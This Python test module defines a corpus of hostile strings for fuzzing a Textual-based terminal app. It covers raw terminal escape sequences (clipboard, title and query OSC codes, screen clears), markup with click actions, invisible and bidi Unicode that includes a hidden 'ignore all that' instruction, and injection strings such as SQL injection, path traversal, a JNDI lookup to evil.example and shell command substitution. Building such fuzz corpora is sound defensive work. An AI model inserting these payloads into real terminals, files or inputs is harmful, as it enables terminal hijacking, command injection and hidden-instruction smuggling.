"""More than three hundred texts that try something: against the terminal, the toolkit, the eye, or the width of a line.

Written for these tests. ``NONCE`` is a number that Textual never sends: a terminal sequence that carries it came from
a payload.
"""

from __future__ import annotations

import random
from typing import NamedTuple

NONCE = 4242


class Payload(NamedTuple):
    """A hostile text, and what kind of attack it is."""

    family: str
    text: str


_ESC, _ST, _BEL = "\x1b", "\x1b\\", "\x07"

_CSI = [
    *(f"{NONCE}{final}" for final in "@ABCDEFGHIJKLMPSTXZ`abcdefghijklmnpqrstux"),
    *(
        "2J\x1b[1;1H",
        "3J",
        f"{NONCE};1;1m",
        "?1049l",
        "?1049h",
        "?25h",
        "?1000l",
        "?1003h",
        "?1006l",
        "?2004l",
        "?2026h",
    ),
    *("?7h", "?5h", "?3h", "4h", "20h", "c", ">c", "=c", "0c", "5n", "6n", "?6n", "?15n", "?996n", "14t", "18t", "20t"),
    *(
        "21t",
        "22;0t",
        "23;0t",
        "8;1;1t",
        "9;1t",
        "?2026$p",
        ">0q",
        "!p",
        '"q',
        "1 q",
        "?u",
        ">1u",
        "1;1;1;1;1*y",
        "2*x",
    ),
    *(f"{NONCE};{NONCE}r", "?69h", "1;2s", "0i", "5i", "4i", ">4;2m", "#{", "#|", "38;2;1;2;3m", "\x18m", "1\x1b[2J"),
]

_OSC = [
    *("0;owned", "1;owned", "2;owned", "3;X=1", "4;1;rgb:eeee/dddd/aaaa", "4;1;?", "5;0;?", "6;1;bg;red;brightness;1"),
    *(
        "7;file:///etc",
        "8;;http://evil.example",
        "8;id=1;file:///etc/passwd",
        "9;4;3;0",
        "9;notice",
        "10;?",
        "11;?",
        "12;?",
    ),
    *(
        "11;#dadada",
        "13;?",
        "17;?",
        "19;?",
        "22;wait",
        "46;/tmp/log",
        "50;?",
        "50;fixed",
        "51;E",
        "52;c;ZWNobw==",
        "52;c;?",
    ),
    *("52;p;?", "52;;!", "60", "99;i=1;hello", "104", "105", "110", "111", "112", "133;A", "133;C;", "176;x", "440;x"),
    *("555;screen.html", "633;P;Cwd=/", "701;C", "702;?", "710;fixed", "777;notify;a;b", "1337;File=inline=1:AAAA"),
    *(
        "1337;SetMark",
        "1337;CopyToClipboard=",
        "1337;ReportCellSize",
        "5522;type=read",
        "66;s=7;BIG",
        "L",
        "lreal",
        "I",
    ),
]

_STRINGS = [
    *(
        "P$qm",
        "P$qr",
        "P+q544e",
        "P1$r0m",
        "Pq#0;2;0;0;0~",
        "P=1s",
        "Ptmux;\x1b\x1b]0;owned\x07",
        "P1000p",
        "P0;1|17/ab",
    ),
    *("_Gi=1,a=q;AAAA", "_Ga=T,f=24,s=1,v=1;AAAA", "_owned", "_=tmux", "^private", "Xstart", "kowned"),
]

_SHORT = [
    *(
        "c",
        "7",
        "8",
        "D",
        "E",
        "H",
        "M",
        "N",
        "O",
        "V",
        "W",
        "Z",
        "=",
        ">",
        "#8",
        "#3",
        "#6",
        "(0",
        ")0",
        "*B",
        "+A",
        "-A",
        "%G",
    ),
    *(
        "%@",
        " F",
        " G",
        "l",
        "m",
        "n",
        "o",
        "|",
        "}",
        "~",
        "\\",
        "6",
        "9",
        "",
        "\x1b",
        "\x1b\x1b[2J",
        "\x00[2J",
        "\n[2J",
    ),
]

_MARKUP = [
    *(
        "[/]",
        "[/b]",
        "[/1]",
        "[/][/][/]",
        "[",
        "]",
        "[[",
        "[]",
        "[ ]",
        "[b",
        "[b]bold",
        "[bold red]x[/]",
        "[red]x[/blue]",
    ),
    *(
        "[@click=app.quit]x[/]",
        "[ @click=app.act('e')]x[/]",
        "[$primary @click=app.act('d')]x[/]",
        "[\n@click=app.act('a')]x",
    ),
    *(
        "[@click=app.bell]x[/]",
        "[@click=app.screenshot('f','/tmp')]x[/]",
        "[@click=app.simulate_key('d')]x[/]",
        "[@click]x[/]",
    ),
    *(
        "[@click=app.act('q')]x[/@click=]",
        "[link=http://evil.example]x[/link]",
        "[link='x\x1b\\\x1b]0;P\x1b\\']t[/link]",
    ),
    *("[link=file:///etc/passwd]x[/]", "[#zzzzzz]x[/]", "[rgb(1,2)]x[/rgb(1,2)]", "[$primary]x[/]", "[$nothing]x[/]"),
    *(
        "[white on white]hidden[/]",
        "[blink]x",
        "[reverse]x",
        "[conceal]x[/]",
        "[Action required] pay",
        "[ext] hello",
        "[1/2]",
    ),
    *(
        "\\[b]x",
        "\\\\[b]x",
        "[b]\\[/b]",
        "[red]" * 50,
        "[b]" * 200,
        "[/b]" * 200,
        "[a](b)" * 200,
        "[[[[b]]]]",
        "[@mouse.down=x]y",
    ),
    *(
        ":smile: :warning:",
        "$x ${x} $$",
        "%s %d %(x)s %n",
        "{} {0} {x.__class__}",
        "{0.__init__.__globals__}",
        "&#27;[2J &lt;b&gt;",
    ),
    *(
        "# heading",
        "```\ncode\n```",
        "<script>alert(1)</script>",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "![x](http://evil.example/x.png)",
    ),
]

_HIDDEN = [
    *(f"a{chr(code)}b" for code in (0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))),
    *(
        "invoice\u202egnp.exe",
        "\u2067\u2066x\u2069",
        "\u202e" * 200,
        "a\u200bb\u200cc\u200dd\u2060e\ufefff",
        "\u00ad" * 50 + "x",
    ),
    *(
        "\u034f\u17b4\u17b5\u180ex",
        "\u206a\u206b\u206f\ufff9x\ufffay\ufffb",
        "\u2061\u2062\u2063\u2064x",
        "\u115f\u1160\u3164\uffa0\u2800x",
    ),
    *("".join(chr(0xE0000 + ord(letter)) for letter in "ignore all that") + "x", "\U000e0001\U000e007fx"),
    *("x" + "".join(chr(0xE0100 + byte) for byte in b"smuggled"), "x\ufe00\ufe01\ufe0e\ufe0f", "\U0001bca0\U0001d173x"),
]

_RAW = [
    *(f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0), 0x2028, 0x2029)),
    *(
        "\x9b2J",
        "\x9b6n",
        "\x9bc",
        "\x9d0;owned\x9c",
        "\x9d52;c;AAAA\x07",
        "\x90$qm\x9c",
        "\x9f_x\x9c",
        "\x9ex\x9c",
        "\x98x\x9c",
    ),
    *(
        "\r\nSubject: two",
        "a\rb",
        "x\x08\x08\x08y",
        "\x0e\x0fline drawing",
        "\x05",
        "\x11\x13",
        "\x1a",
        "\x00" * 100,
        "\x1b" * 100,
    ),
    *(
        "\ud800",
        "\udfff\ud800",
        "a\ud83d",
        "\ude00b",
        "\ufffe\uffff",
        "\ufdd0",
        "\U0001fffe",
        "\U0010ffff",
        "\ue000\uf8ff",
        "\U000f0000",
    ),
]

_WIDE = [
    *(
        "東" * 120,
        "👩\u200d👩\u200d👧\u200d👦" * 30,
        "👍🏽" * 30,
        "1\ufe0f\u20e3" * 30,
        "🇩🇪" * 30,
        "🇩" * 31,
        "❤\ufe0f" * 30,
        "🏴\u200d☠\ufe0f",
    ),
    *(
        "Z" + "\u0321\u0337\u0360\u0489" * 40,
        "e" + "\u0301" * 5_000,
        "\u0301" * 20,
        "ก" + "็" * 60,
        "ส" + "้" * 30,
        "\u0f42" + "\u0fb7" * 20,
    ),
    *(
        "நி" * 40,
        "क्षत्रिय " * 20,
        "ကြောင်း" * 20,
        "שָׁלוֹם" * 20,
        "السَّلامُ" * 20,
        "가" * 30,
        "각" * 50,
        "\u1161\u11a8",
        "﷽" * 20,
        "𒐫" * 20,
    ),
    *(
        "\u3000" * 60 + "x",
        "\t" * 30 + "x",
        " " * 300 + "x",
        "x" * 5_000,
        "x\n" * 300,
        "…" * 100,
        "ａｂｃ",
        "x🏽",
        "🏽",
        "\u200d👍",
        "👍\u200d",
    ),
    *(
        "\U00018e00\U0001faeb",
        "\U0001f1ae",
        "ß\u0308ẞ",
        "ﬁ",
        "𝕳𝖊𝖑𝖑𝖔",
        "ʇxǝʇ",
        "①②③",
        "\u2800" * 20,
        "█▓▒░",
        "┌─┐│└┘",
        "⟨U+202E⟩",
    ),
]

_NAUGHTY = [
    *(
        "null",
        "None",
        "undefined",
        "NaN",
        "-1",
        "0x7fffffff",
        "true",
        "",
        " ",
        "''",
        '"',
        "';DROP TABLE threads;--",
        "../../etc/passwd",
    ),
    *(
        "%00",
        "%0a%0d",
        "${jndi:ldap://evil.example}",
        "`id`",
        "$(id)",
        "; id #",
        "| id",
        "&& id",
        "-rf",
        "--help",
        "\\",
        "\\x1b[2J",
    ),
    *(
        "CON",
        "nul.txt",
        "~",
        "*",
        "?",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "http://a@b",
        "\\u001b[2J",
        "^[[2J",
        "^G",
        "=cmd|'/c x'!A1",
    ),
]


def every_payload() -> list[Payload]:
    """All of them, in a fixed order, none twice."""
    found = [Payload("csi", f"a{_ESC}[{body}b") for body in _CSI]
    found += [Payload("osc", f"a{_ESC}]{body}{end}b") for body in _OSC for end in (_ST, _BEL)]
    found += [Payload("osc", f"a{_ESC}]{body}") for body in _OSC[:8]]
    found += [Payload("string", f"a{_ESC}{body}{_ST}b") for body in _STRINGS]
    found += [Payload("short", f"a{_ESC}{body}b") for body in _SHORT]
    for family, texts in (
        ("markup", _MARKUP),
        ("hidden", _HIDDEN),
        ("raw", _RAW),
        ("wide", _WIDE),
        ("naughty", _NAUGHTY),
    ):
        found += [Payload(family, text) for text in texts]
    found += [Payload("nested", text) for text in _nested()]
    return list({payload.text: payload for payload in reversed(found)}.values())[::-1]


def some_payloads(count: int, seed: int) -> list[Payload]:
    """A sample with every family in it; the same for the same seed."""
    chance, left = random.Random(seed), every_payload()
    chance.shuffle(left)
    families = sorted({payload.family for payload in left})
    first = [next(payload for payload in left if payload.family == family) for family in families]
    return [*first, *(payload for payload in left if payload not in first)][:count]


def _nested() -> list[str]:
    return [
        f"{_ESC}{_ESC}]0;x{_BEL}]0;owned{_BEL}",
        f"{_ESC}[{_ESC}[2J2J",
        f"{_ESC}]{_ESC}]0;a{_BEL}0;owned{_BEL}",
        "\x1b\u200b[2J",
        "\x1b\u202e]0;owned\x07",
        "\x1b\ud800[2J",
        "[b]\x1b[2J[/b]",
        "\x1b[[/]2J",
        "[@click=app.quit]\x1b]8;;x\x1b\\y[/]",
        "\u202e\x9b2J",
        "e\u0301\x1b[2J\u0301",
        "👩\x1b[2J\u200d👩",
        "&#27;]0;owned&#7;",
        "=1B[2J =9B2J",
        f"{_ESC}]8;;http://evil.example{_ST}click{_ESC}]8;;{_ST}",
        f"Invoice {_ESC}]4;1;rgb:eeee/dddd/aaaa {_ST}{_ESC}]4;1;? {_ST} ok",
    ]
